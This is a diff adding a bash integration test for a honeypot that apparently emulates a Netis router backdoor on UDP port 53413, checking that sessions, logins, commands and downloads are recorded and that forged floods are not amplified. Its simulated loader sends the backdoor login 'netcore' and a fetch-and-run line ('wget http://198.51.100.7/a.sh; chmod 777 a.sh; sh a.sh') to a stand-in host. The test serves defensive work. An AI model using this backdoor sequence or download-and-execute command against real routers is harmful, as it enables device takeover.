@@ -1,0 +1,168 @@
+#!/bin/bash
+# 53413/UDP in the real program: real clients, what is kept of them, and that it never sends more than it is sent, whatever is
+# forged. In network namespaces.
+set -uo pipefail
+# shellcheck source=tests/live/netns.sh
+source "$TEITEN_SOURCE/tests/live/netns.sh"
+release=$TEITEN_RELEASE
+[[ -x $release ]] || release=$TEITEN
+reflect=$TEITEN_SOURCE/tests/trap/reflect.py
+
+if ! why=$(netns_can); then
+    echo "SKIP: $why"
+    exit 77
+fi
+for word in python3 pgrep nc; do
+    if ! command -v "$word" >/dev/null; then
+        echo "SKIP: needs $word"
+        exit 77
+    fi
+done
+chmod 711 "$TMPDIR" # the daemon becomes a user who must reach its state folder
+
+fail() {
+    echo "FAIL: $*"
+    tail -n 20 "$TMPDIR"/*.log 2>/dev/null
+    exit 1
+}
+
+# until_true SECONDS COMMAND...
+until_true() {
+    local end=$((SECONDS + $1))
+    shift
+    until "$@"; do
+        ((SECONDS < end)) || return 1
+        sleep 0.05
+    done
+}
+
+said() { # NAME TEXT
+    grep -q -- "$2" "$TMPDIR/$1.log"
+}
+
+# begin NAME PROGRAM WORDS...: observes into $TMPDIR/NAME
+begin() {
+    local name=$1 program=$2
+    shift 2
+    : >"$TMPDIR/$name.log"
+    netns_start SENSOR "$program" observe --interface sensor0 --prefix 192.0.2.0/24 --state "$TMPDIR/$name" \
+        --set trap.telnet=127.0.0.1:0 --set trap.http=127.0.0.1:0 "$@" 2>>"$TMPDIR/$name.log"
+    observer=$netns_pid
+    until_true 20 said "$name" " started " || fail "$name does not begin"
+    until_true 20 has_workers || fail "no workers of $name"
+}
+
+has_workers() {
+    [[ $(pgrep -c -P "$observer" -f '^teiten-trap$') -ge 1 ]]
+}
+
+end() {
+    netns_stop "$observer" || fail "$1 ended with $?"
+    said "$1" " stopped " || fail "$1 did not say that it stopped"
+}
+
+# ask NAME PYTHON COMMAND...: whether it holds of the JSON document d
+ask() {
+    local name=$1 check=$2
+    shift 2
+    "$release" "$@" --json --state "$TMPDIR/$name" |
+        python3 -c "import json, sys; d = json.load(sys.stdin); sys.exit(not ($check))"
+}
+
+# count NAME COUNTER: over all of the trap's workers
+count() {
+    "$release" status --json --state "$TMPDIR/$1" |
+        python3 -c "import json, sys; print(sum(w['$2'] for w in json.load(sys.stdin)['workers'] if w['name'] == 'trap'))"
+}
+
+is_counted() { # NAME DATAGRAMS
+    (($(count "$1" datagrams) + $(count "$1" lost) == $2))
+}
+
+# ---- clients ----
+
+# What a loader says, from one socket: an exchange is that of a port.
+loader() {
+    netns_in SENDER python3 - "$@" <<'END'
+import socket, sys
+ours, target = sys.argv[1:3]
+s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((ours, 0))
+s.settimeout(5)
+def ask(data):
+    s.sendto(data, (target, 53413))
+    answer = b""
+    while True:
+        got, (who, *_) = s.recvfrom(4096)
+        assert who == target and len(got) <= 64, (who, got)
+        answer += got
+        if got[3] != 4:
+            return answer
+assert ask(b"\n") == b"\n\0\0\6\0\1\0\0\0\0\xd0\xa5Login:"
+assert ask(b"AAAAAAAAnetcore\0") == b"AA\0\5ABAA\0\0\0\0Login successed!\r\n"
+said = ask(b"AA\0\0AAAAcd /tmp; wget http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; echo done" + b" " * 40 + b"\0")
+assert said == b"AA\0\4ABAAdone\nAA\0\5ACAA\0\0\0\0", said
+END
+}
+
+clients() {
+    local id with_socat=0
+    begin clients "$TEITEN" --set trap.workers=1
+    said clients "listening at=0.0.0.0:53413 service=netis" || fail "it does not listen"
+    ip -n "$netns_sender" address add 203.0.113.20/32 dev sender0
+    ip -n "$netns_sender" address add 203.0.113.120/32 dev sender0
+    loader 198.51.100.2 198.51.100.1 >"$TMPDIR/loader.out" 2>&1 || fail "the exchange: $(<"$TMPDIR/loader.out")"
+    printf '\n' | netns_in SENDER nc -u -s 203.0.113.20 -w 1 198.51.100.1 53413 | cmp -s - <(printf '\n\0\0\6\0\1\0\0\0\0\320\245Login:') ||
+        fail "nc is not answered"
+    if command -v socat >/dev/null; then
+        with_socat=1
+        printf 'AAAAAAAAnetcore\0' | netns_in SENDER socat -t 1 - UDP4:198.51.100.1:53413,bind=203.0.113.120 >"$TMPDIR/socat.out"
+        # of its network 17 bytes are left: 64 and 29 and 44 came, 46 went and 58 would
+        [[ ! -s $TMPDIR/socat.out || $(wc -c <"$TMPDIR/socat.out") == 30 ]] || fail "socat: $(xxd "$TMPDIR/socat.out")"
+    fi
+    # A command without a log-in is not run, and seen.
+    printf 'AA\0\0AAAAreboot\0' | netns_in SENDER nc -u -p 45678 -w 1 198.51.100.1 53413 >/dev/null
+    # A port that services have is not answered.
+    printf '\n' | netns_in SENDER nc -u -p 53 -w 1 198.51.100.1 53413 >"$TMPDIR/low.out"
+    [[ ! -s $TMPDIR/low.out ]] || fail "port 53 is answered"
+    until_true 20 is_counted clients $((6 + with_socat)) || fail "$("$release" status --state "$TMPDIR/clients")"
+    [[ $(count clients lost) == 0 && $(count clients untold) == 0 ]] || fail "some are not told of"
+    end clients
+    ask clients "any(s['logged_in'] and s['commands'] == 1 and s['downloads'] == 1 and s['service'] == 'netis' and
+        s['persona'] == 'netis-router' and s['source'] == '198.51.100.2' for s in d)" sessions ||
+        fail "$("$release" sessions --state "$TMPDIR/clients")"
+    ask clients "len(d) == 1 and d[0]['name'].startswith('cd /tmp; wget http://198.51.100.7/a.sh')" top commands || fail "commands"
+    ask clients "d[0]['name'] == 'http://198.51.100.7/a.sh'" top downloads || fail "downloads are not told"
+    ask clients "d[0]['name'] == '/netcore'" top credentials || fail "log-ins are not told"
+    ask clients "{r['name']: r['count'] for r in d}['probe'] == 3" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
+    id=$("$release" sessions --json --state "$TMPDIR/clients" | python3 -c "
+import json, sys
+print(next(s['id'] for s in json.load(sys.stdin) if s['commands']))")
+    ask clients "[e['type'] for e in d['events']] == ['open', 'datagram', 'datagram', 'login', 'datagram', 'command', 'download',
+        'file', 'run', 'status', 'close'] or [e['type'] for e in d['events'] if e['type'] == 'datagram'] == ['datagram'] * 3" \
+        session "$id" || fail "$("$release" session "$id" --state "$TMPDIR/clients")"
+}
+
+# ---- floods ----
+
+# Through two workers. All that came is counted, and no network is sent more than came from it and 64 bytes.
+floods() {
+    local sent in out most
+    begin floods "$release" --set trap.workers=2
+    netns_in SENDER python3 "$reflect" sender0 198.51.100.1 53413 >"$TMPDIR/reflect.out" 2>"$TMPDIR/reflect.err" ||
+        fail "forged floods are reflected: $(cat "$TMPDIR/reflect.out" "$TMPDIR/reflect.err")"
+    read -r sent in out most <"$TMPDIR/reflect.out"
+    echo "$sent datagrams, $in bytes in, $out bytes out, at most $most more towards a network at any time than had come from it"
+    until_true 20 is_counted floods "$sent" || fail "not all of $sent are counted: $("$release" status --state "$TMPDIR/floods")"
+    echo "lost: $(count floods lost), untold: $(count floods untold), not answered for the budget: $(count floods unanswered)"
+    (($(count floods unanswered) > 0 && $(count floods untold) > 0 && $(count floods answered) > 1000)) ||
+        fail "it was no flood: $(tail -n 2 "$TMPDIR/floods.log")"
+    ask floods "sum(w['datagrams'] > 1000 for w in d['workers'] if w['name'] == 'trap') == 2" status || fail "one worker met them all"
+    end floods
+    "$release" verify --state "$TMPDIR/floods" >/dev/null || fail "what is kept does not verify"
+}
+
+netns_up || fail "no namespaces"
+for part in ${ONLY:-clients floods}; do
+    "$part"
+done
